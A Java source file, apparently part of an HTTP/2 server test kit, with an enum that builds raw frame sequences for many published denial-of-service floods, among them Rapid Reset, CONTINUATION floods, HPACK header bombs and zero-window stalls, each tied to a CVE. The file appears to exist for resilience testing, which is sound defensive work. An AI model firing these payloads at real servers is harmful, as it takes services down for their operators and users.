package io.telpher.testkit.raw;

import static io.telpher.testkit.raw.H2Frames.CANCEL;
import static io.telpher.testkit.raw.H2Frames.CONTINUATION;
import static io.telpher.testkit.raw.H2Frames.END_HEADERS;
import static io.telpher.testkit.raw.H2Frames.END_STREAM;
import static io.telpher.testkit.raw.H2Frames.HEADERS;
import static io.telpher.testkit.raw.H2Frames.PRIORITY;
import static io.telpher.testkit.raw.H2Frames.block;
import static io.telpher.testkit.raw.H2Frames.data;
import static io.telpher.testkit.raw.H2Frames.fields;
import static io.telpher.testkit.raw.H2Frames.frame;
import static io.telpher.testkit.raw.H2Frames.get;
import static io.telpher.testkit.raw.H2Frames.indexing;
import static io.telpher.testkit.raw.H2Frames.joined;
import static io.telpher.testkit.raw.H2Frames.request;
import static io.telpher.testkit.raw.H2Frames.reset;
import static io.telpher.testkit.raw.H2Frames.settings;
import static io.telpher.testkit.raw.H2Frames.widen;

import java.util.Arrays;
import java.util.function.IntFunction;

/** A published way to exhaust a server by HTTP/2, as the pieces that a client sends one after the other. */
@SuppressWarnings("ImmutableEnumChecker") // the functions are pure, and the array is never given away
public enum H2Flood {
    /** CVE-2023-44487. */
    RAPID_RESET(i -> joined(get(stream(i), "/"), reset(stream(i), CANCEL))),
    /** CVE-2025-8671: the server is made to reset the stream. */
    MADE_YOU_RESET(i -> joined(request(stream(i), false, "POST", "/"), widen(stream(i), 0))),
    /** CVE-2025-8671 by requests that are malformed. */
    MALFORMED(i -> get(stream(i), "/", "connection", "close")),
    /** CVE-2024-27316: a head that never ends. */
    CONTINUATIONS(
            i -> i == 0 ? frame(HEADERS, 0, 1, block(fields("GET", "/"))) : frame(CONTINUATION, 0, 1, new byte[0])),
    /** CVE-2019-9518. */
    EMPTY_DATA(i -> i == 0 ? request(1, false, "POST", "/") : data(1, false, "")),
    /** CVE-2019-9512. */
    PINGS(H2Frames::ping),
    /** CVE-2019-9515. */
    SETTINGS(i -> settings(H2Flood.INITIAL_WINDOW_SIZE, 1000 + i)),
    /** CVE-2019-9513. */
    PRIORITIES(i -> frame(PRIORITY, 0, stream(i), new byte[5])),
    /** WINDOW_UPDATE by a byte. */
    WINDOW_UPDATES(i -> widen(0, 1)),
    /** CVE-2026-49975: a byte for each copy of a large field, and a window that lets no answer out. */
    BOMB(i -> head(i, bomb(indexing("x-bomb", "b".repeat(4_000)), 8_000)), H2Flood.INITIAL_WINDOW_SIZE, 0),
    /** CVE-2026-47774: a byte for each crumb of a cookie. */
    CRUMBS(i -> head(i, bomb(indexing("cookie", ""), 16_000)), H2Flood.INITIAL_WINDOW_SIZE, 0),
    /** Heads just within their limit, and a window that lets no answer out. */
    PINNED(i -> get(stream(i), "/", "x-large", "l".repeat(15_000)), H2Flood.INITIAL_WINDOW_SIZE, 0),
    /** Content that nobody reads, on as many streams as the windows allow. */
    UNREAD(i -> joined(request(stream(i), false, "POST", "/"), data(stream(i), false, "u".repeat(10_000))));

    private static final int INITIAL_WINDOW_SIZE = 4;

    private final IntFunction<byte[]> pieces;
    private final int[] announced;

    H2Flood(IntFunction<byte[]> pieces, int... announced) {
        this.pieces = pieces;
        this.announced = announced;
    }

    private static int stream(int i) {
        return 2 * i + 1;
    }

    private static byte[] head(int i, byte[] block) {
        return frame(HEADERS, END_HEADERS | END_STREAM, stream(i), block);
    }

    /** A request, a field that enters the table, and as many references to it as fit. */
    private static byte[] bomb(byte[] first, int bytes) {
        byte[] begin = joined(block(fields("GET", "/")), first);
        byte[] bomb = Arrays.copyOf(begin, bytes);
        Arrays.fill(bomb, begin.length, bytes, (byte) (0x80 | 62));
        return bomb;
    }

    /** Piece {@code i}, from 0 on. */
    public byte[] piece(int i) {
        return pieces.apply(i);
    }

    /** What the client announces first, identifiers and values in turn. */
    public int[] announced() {
        return announced.clone();
    }
}
